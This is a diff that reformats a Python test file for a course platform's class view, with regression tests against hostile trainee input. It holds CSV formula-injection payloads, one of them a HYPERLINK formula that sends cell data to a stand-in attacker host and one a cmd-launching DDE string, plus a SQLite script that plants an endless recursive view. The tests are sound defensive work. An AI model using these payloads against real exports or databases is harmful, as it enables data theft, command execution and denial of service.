@@ -1,6 +1,7 @@
 """A trainee controls their home and what they type: none of it may be turned against the class (issue "A class
 that cannot be turned against itself", items 6, 7 and 15).  Each test is named after the finding; each failed on
 the code before its fix (c8663e6)."""
+
 import csv
 import io
 import json
@@ -16,8 +17,14 @@ from exercises.classview import class_rows, rows_csv
 from exercises.progress import Attempt, ProgressStore, ProgressStoreError, read_attempts
 from itbcore.errors import InputError
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "\tleading tab", "\rleading CR")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tleading tab",
+    "\rleading CR",
+)
 
 
 # -- item 7: CSV export ----------------------------------------------------------------------------------------
@@ -58,8 +65,14 @@ def _class_view(root, trainees, tmp_path, timeout=60):
     env = dict(os.environ, ITB_CLASS_PROGRESS_ROOT=str(root), ITB_COURSE="itb", PYTHONPATH=os.getcwd())
     env.pop("JUPYTERHUB_API_TOKEN", None)
     try:
-        out = subprocess.run([sys.executable, "-c", _VIEW_SCRIPT, ",".join(trainees), str(tmp_path / "course")],
-                             capture_output=True, text=True, timeout=timeout, env=env, cwd=os.getcwd())
+        out = subprocess.run(
+            [sys.executable, "-c", _VIEW_SCRIPT, ",".join(trainees), str(tmp_path / "course")],
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+            env=env,
+            cwd=os.getcwd(),
+        )
     except subprocess.TimeoutExpired:
         pytest.fail(f"the class view did not finish within {timeout} s")
     assert out.returncode == 0, out.stderr[-2000:]
@@ -82,10 +95,12 @@ def test_class_view_poisoned_by_a_view_named_attempts_that_never_ends(tmp_path):
     _trainee_file(root, "t2")
     bad = _trainee_file(root, "t1")
     conn = sqlite3.connect(bad)
-    conn.executescript("DROP TABLE attempts; CREATE VIEW attempts AS WITH RECURSIVE r(id) AS "
-                       "(SELECT 1 UNION ALL SELECT id + 1 FROM r) SELECT hex(id) AS uid, 't1' AS trainee, "
-                       "'x' AS exercise, 1 AS seed, 'p' AS part, 'a' AS answer, 0 AS correct, NULL AS slip, "
-                       "'check' AS kind, '2026-01-01' AS created_at, NULL AS override_reason, id FROM r;")
+    conn.executescript(
+        "DROP TABLE attempts; CREATE VIEW attempts AS WITH RECURSIVE r(id) AS "
+        "(SELECT 1 UNION ALL SELECT id + 1 FROM r) SELECT hex(id) AS uid, 't1' AS trainee, "
+        "'x' AS exercise, 1 AS seed, 'p' AS part, 'a' AS answer, 0 AS correct, NULL AS slip, "
+        "'check' AS kind, '2026-01-01' AS created_at, NULL AS override_reason, id FROM r;"
+    )
     conn.close()
     view = _class_view(root, ["t1", "t2"], tmp_path)
     assert _shown(view, "t2") and not _shown(view, "t1")
@@ -236,8 +251,9 @@ def test_names_over_200_characters_accepted_then_lost_at_recovery_are_refused(tm
     assert len(ProgressStore(path).attempts("b" * 200)) == 1
 
 
-def test_names_over_200_characters_are_refused_by_the_practice_app_assessment_app_and_load_exercise(tmp_path,
-                                                                                                   monkeypatch):
+def test_names_over_200_characters_are_refused_by_the_practice_app_assessment_app_and_load_exercise(
+    tmp_path, monkeypatch
+):
     from exercises.app import PracticeApp
     from exercises.assessment_app import AssessmentApp
     from exercises.core import load_exercise
